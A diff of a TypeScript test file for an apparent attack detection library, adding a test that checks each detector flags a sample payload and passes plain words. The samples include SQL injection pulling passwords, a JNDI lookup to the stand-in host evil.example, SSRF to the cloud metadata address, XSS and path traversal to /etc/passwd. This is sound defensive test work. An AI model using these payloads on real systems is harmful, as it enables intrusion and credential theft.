@@ -219,8 +219,27 @@ test('numbers of cards and persons are verified by their check digits', () => {
 })
 
 test('a detector captures what gave the attack away', () => {
-  assert.ok(holds('detectSQLi', '', "1' or '1'='1"))
-  assert.ok(!holds('detectSQLi', '', 'an order of fish'))
   assert.match(captured('detectSQLi', '', "1' or '1'='1")[0] ?? '', /or/)
   assert.equal(compile('detectSQLi', 'strict').diagnostics[0]?.code, 'operator-argument')
+})
+
+test('every kind of attack has its operator, and plain words none', () => {
+  const attacks: readonly (readonly [string, string])[] = [
+    ['detectCrlf', 'en\r\nSet-Cookie: a=b'],
+    ['detectLdap', '*)(uid=*))(|(uid=*'],
+    ['detectNoSql', '{"$ne": null}'],
+    ['detectPrototypePollution', '__proto__[admin]'],
+    ['detectSerialized', 'O:8:"stdClass":1:{s:1:"a";i:1;}'],
+    ['detectSQLi', "1' union select password from users--"],
+    ['detectSsrf', 'http://169.254.169.254/latest/meta-data/'],
+    ['detectTemplate', '${jndi:ldap://evil.example/a}'],
+    ['detectTraversal', '../../../etc/passwd'],
+    ['detectXPath', "' or count(//user)=1 or 'a'='"],
+    ['detectXSS', '<img src=x onerror=alert(1)>'],
+  ]
+  for (const [name, attack] of attacks) {
+    assert.ok(holds(name, '', attack), name)
+    assert.ok(!holds(name, '', 'three plain words'), name)
+    assert.notEqual(captured(name, '', attack)[0], undefined, name)
+  }
 })
